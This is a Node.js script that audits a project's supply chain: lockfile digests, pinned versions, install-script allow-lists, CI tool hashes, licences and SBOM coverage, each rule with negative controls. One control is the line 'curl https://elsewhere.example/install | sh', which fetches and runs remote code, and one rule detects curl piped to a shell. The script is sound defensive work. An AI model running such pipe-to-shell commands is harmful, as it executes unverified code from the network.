// The rules for what comes from others, each with a negative control: a check that finds nothing wrong anywhere is no check.
import { execFileSync } from "node:child_process";
import { existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "yaml";
import { writeSbom } from "./sbom.mjs";
import { ROOT } from "./setup.mjs";

/** Licences that ask for no more than their text, and patents that are granted. */
const LICENCES = new Set([
  ...["0BSD", "Apache-2.0", "BlueOak-1.0.0", "BSD-2-Clause", "BSD-3-Clause", "ISC", "MIT", "Unlicense", "Zlib"],
]);
/** Packages with another licence, by how their names begin. */
const OTHER_LICENCES = {
  // Shared libraries of their own, which are used unchanged and can be exchanged.
  "@img/sharp-libvips-": "LGPL-3.0-or-later",
  "libheif-js": "LGPL-3.0",
  // Not in what is delivered: they build and test it.
  "axe-core": "MPL-2.0",
  lightningcss: "MPL-2.0",
};

const SHA512 = /^sha512-[A-Za-z0-9+/]{86}==$/;
const EXACT = /@\d+\.\d+\.\d+$/;

/** Rules by name; each returns what breaks it. */
const RULES = {
  "each package has a digest and comes from the registry": ({ lockfile }) =>
    Object.entries(lockfile.packages).flatMap(([name, { resolution }]) => {
      const { integrity, ...place } = resolution;
      const isPlain = Object.keys(place).length === 0 && /^(@[^/@]+\/)?[^/@:]+@\d[^/:]*$/.test(name);
      return isPlain && SHA512.test(integrity ?? "") ? [] : [name];
    }),
  "a package that is no part of the workspace has a version": ({ lockfile }) =>
    dependenciesOf(lockfile).flatMap(([name, version]) =>
      version.startsWith("link:") ? (name.startsWith("@lookalike/") ? [] : [name]) : /^\d/.test(version) ? [] : [name],
    ),
  "only the packages of the allow-list run scripts when they are installed": ({ workspace, withScripts }) => [
    ...(workspace.strictDepBuilds === true ? [] : ["strictDepBuilds"]),
    ...withScripts.filter((name) => workspace.allowBuilds[name] === undefined),
  ],
  "nothing is installed but what has a digest": ({ commands }) =>
    commands.filter((line) => {
      if (/\bpip\b.*\b(install|download)\b/.test(line)) return !line.includes("--require-hashes");
      if (/pnpm.*\binstall\b/i.test(line)) return !line.includes("--frozen-lockfile");
      return /\bnpm install\b|\bcurl\b.*\|/.test(line);
    }),
  "what is run by npx has an exact version": ({ commands }) =>
    commands.flatMap((line) =>
      [...line.matchAll(/(?:npx (?:-y )?|"dlx", ")"?(@?[\w./-]+@[\w.^~]+)/g)].flatMap(([, name]) =>
        EXACT.test(name) ? [] : [line],
      ),
    ),
  "CI's tools have digests": ({ tools, requirements }) => [
    ...Object.entries(tools).flatMap(([name, { module, modules }]) =>
      /@v\d+\.\d+\.\d+$/.test(module) && /^[0-9a-f]{64}$/.test(modules ?? "") ? [] : [name],
    ),
    ...requirements.filter((line) => !/^[\w.-]+==[\w.]+( --hash=sha256:[0-9a-f]{64})+$/.test(line)),
  ],
  "each licence is allowed": ({ components }) =>
    components.flatMap(({ name, group, licenses = [] }) => {
      const whole = group === undefined ? name : `${group}/${name}`;
      const names = licenses.map(({ expression, license }) => expression ?? license.id ?? license.name);
      return whole.startsWith("@lookalike/") || (names.length > 0 && names.every((text) => isAllowed(whole, text)))
        ? []
        : [`${whole}: ${names.join(", ") || "no licence"}`];
    }),
  "the bill of materials names each direct dependency": ({ lockfile, components }) => {
    const urls = new Set(components.map(({ purl }) => decodeURIComponent(purl)));
    // Optional ones are installed where they fit the system.
    return dependenciesOf(lockfile, ["dependencies", "devDependencies"]).flatMap(([name, version]) => {
      const plain = version.replace(/\(.*/, "");
      return plain.startsWith("link:") || urls.has(`pkg:npm/${name}@${plain}`) ? [] : [`${name}@${plain}`];
    });
  },
};

/** Direct dependencies of the workspace's packages: name and version. */
const dependenciesOf = ({ importers }, kinds = ["dependencies", "devDependencies", "optionalDependencies"]) =>
  Object.values(importers).flatMap((importer) =>
    kinds.flatMap((kind) => Object.entries(importer[kind] ?? {}).map(([name, { version }]) => [name, version])),
  );

/** Whether a licence's expression (SPDX) is allowed for a package. */
const isAllowed = (name, expression) => {
  const other = Object.entries(OTHER_LICENCES).find(([start]) => name.startsWith(start));
  if (other?.[1] === expression) return true;
  const plain = expression.replace(/^\((.*)\)$/, "$1");
  const choices = plain.split(" OR ");
  // An expression of both kinds has brackets inside, which no name of a licence has.
  return choices.some((choice) => choice.split(" AND ").every((licence) => LICENCES.has(licence)));
};

/** For each rule, a state of things in which one thing is wrong. */
const CONTROLS = {
  "each package has a digest and comes from the registry": [
    withPackage({ integrity: "sha1-short" }),
    withPackage({ integrity: `sha512-${"A".repeat(86)}==`, tarball: "https://elsewhere.example/p.tgz" }),
    withPackage({ integrity: `sha512-${"A".repeat(86)}==` }, "p@https://elsewhere.example/p.tgz"),
  ],
  "a package that is no part of the workspace has a version": [
    (state) => ({ ...state, lockfile: { importers: { ".": { dependencies: { p: { version: "link:../p" } } } } } }),
  ],
  "only the packages of the allow-list run scripts when they are installed": [
    (state) => ({ ...state, withScripts: ["unknown"] }),
    (state) => ({ ...state, workspace: { ...state.workspace, strictDepBuilds: false } }),
  ],
  "nothing is installed but what has a digest": [
    "npx pnpm@12.21.0 install",
    "pip install -q schemathesis==4.32.5",
    "npm install left-pad",
    "curl https://elsewhere.example/install | sh",
  ].map(withCommand),
  "what is run by npx has an exact version": ["npx -y pnpm@12 run check", '"dlx", "openapi-typescript@latest"'].map(
    withCommand,
  ),
  "CI's tools have digests": [
    (state) => ({ ...state, tools: { tool: { module: "example.org/tool@v1.0.0" } } }),
    (state) => ({ ...state, requirements: ["schemathesis==4.32.5"] }),
  ],
  "each licence is allowed": [
    (state) => ({ ...state, components: [{ name: "p", licenses: [{ license: { id: "AGPL-3.0" } }] }] }),
    (state) => ({ ...state, components: [{ name: "p" }] }),
    (state) => ({ ...state, components: [{ name: "p", licenses: [{ expression: "MIT AND GPL-2.0" }] }] }),
  ],
  "the bill of materials names each direct dependency": [(state) => ({ ...state, components: [] })],
};

function withPackage(resolution, name = "p@1.0.0") {
  return (state) => ({ ...state, lockfile: { ...state.lockfile, packages: { [name]: { resolution } } } });
}

function withCommand(line) {
  return (state) => ({ ...state, commands: [line] });
}

const read = (file) => readFileSync(join(ROOT, file), "utf8");

/** Lines of code, without comments, of all that installs something. */
const readCommands = () =>
  execFileSync("git", ["ls-files", "Dockerfile", ".ci/run", "scripts", "deploy", "test/support", "package.json"], {
    cwd: ROOT,
    encoding: "utf8",
  })
    .split("\n")
    .filter((file) => file !== "" && file !== "scripts/check-supply-chain.mjs")
    .flatMap((file) => read(file).split("\n"))
    .map((line) => line.trim())
    .filter((line) => !/^(\/\/|#|\*|\/\*)/.test(line));

/** The names of all installed packages that run a script when they are installed. */
const findScripts = () => {
  const store = join(ROOT, "node_modules/.pnpm");
  const namesIn = (folder) => (existsSync(folder) ? readdirSync(folder) : []);
  const folders = readdirSync(store).flatMap((entry) => {
    const modules = join(store, entry, "node_modules");
    return namesIn(modules).flatMap((name) =>
      name.startsWith("@")
        ? namesIn(join(modules, name)).map((below) => join(modules, name, below))
        : [join(modules, name)],
    );
  });
  return folders.flatMap((folder) => {
    const manifest = join(folder, "package.json");
    if (lstatSync(folder).isSymbolicLink() || !existsSync(manifest)) return [];
    const { name, scripts = {} } = JSON.parse(readFileSync(manifest, "utf8"));
    const runs = scripts.preinstall ?? scripts.install ?? scripts.postinstall;
    return runs !== undefined || existsSync(join(folder, "binding.gyp")) ? [name] : [];
  });
};

const temporary = mkdtempSync(join(tmpdir(), "lookalike-sbom-"));
const state = {
  lockfile: parse(read("pnpm-lock.yaml")),
  workspace: parse(read("pnpm-workspace.yaml")),
  withScripts: findScripts(),
  commands: readCommands(),
  tools: JSON.parse(read("test/support/tools.json")),
  requirements: read(".ci/requirements.txt")
    .replaceAll(/ \\\n\s*/g, " ")
    .split("\n")
    .filter((line) => line !== "" && !line.startsWith("#")),
  components: writeSbom(join(temporary, "sbom.cdx.json"), false),
};
rmSync(temporary, { recursive: true });

let faults = 0;
for (const [name, rule] of Object.entries(RULES)) {
  for (const fault of rule(state)) {
    faults += 1;
    console.error(`${name}: not so with ${fault}`);
  }
  for (const change of CONTROLS[name] ?? []) {
    if (rule(change(state)).length > 0) continue;
    faults += 1;
    console.error(`${name}: its control breaks nothing`);
  }
  if (CONTROLS[name] === undefined) throw new Error(`${name}: there is no control`);
}
const packages = Object.keys(state.lockfile.packages).length;
console.log(
  `${packages} packages, ${state.components.length} components with their licences, ${faults} faults of the supply chain`,
);
process.exitCode = faults === 0 ? 0 : 1;
